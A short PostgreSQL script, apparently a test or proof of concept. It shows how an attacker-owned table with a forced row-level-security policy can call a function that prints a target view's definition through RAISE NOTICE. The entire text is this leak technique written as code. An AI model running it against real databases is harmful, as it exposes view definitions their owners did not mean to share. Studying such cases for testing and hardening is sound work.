-- A policy on the attacker's own table evaluates what it is told.
CREATE TABLE told (o oid, answer text);
CREATE FUNCTION note(o oid) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', pg_get_viewdef(o); RETURN true; END $$;
INSERT INTO told VALUES (:beta_view_oid);
ALTER TABLE told ENABLE ROW LEVEL SECURITY;
ALTER TABLE told FORCE ROW LEVEL SECURITY;
CREATE POLICY p ON told USING (note(o));
SELECT count(*) FROM told;
